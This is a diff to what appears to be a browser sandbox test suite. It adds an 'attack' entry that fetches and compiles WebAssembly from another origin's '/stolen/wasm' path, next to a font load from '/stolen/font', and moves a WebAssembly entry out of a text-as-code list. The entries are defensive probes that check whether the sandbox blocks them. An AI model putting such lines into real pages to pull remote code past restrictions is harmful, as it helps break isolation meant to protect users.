@@ -161,6 +161,11 @@ const NETWORK: Attack[] = [
     attempt: `await new FontFace("stolen", "url(" + other + "/stolen/font)").load();`,
     plain: "request",
   },
+  {
+    name: "WebAssembly from a server",
+    attempt: `await WebAssembly.compileStreaming(fetch(other + "/stolen/wasm"));`,
+    plain: "request",
+  },
 ];
 
 /** Ways to what the browser keeps, and to other pages. */
@@ -216,11 +221,6 @@ const TEXT_AS_CODE: Attack[] = [
       setTimeout(code("self.timed = true"));
       await new Promise((resolve) => setTimeout(resolve, 50));
       if (!self.timed) throw new Error("nothing ran");`,
-    plain: "success",
-  },
-  {
-    name: "WebAssembly",
-    attempt: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`,
     plain: "success",
   },
 ];
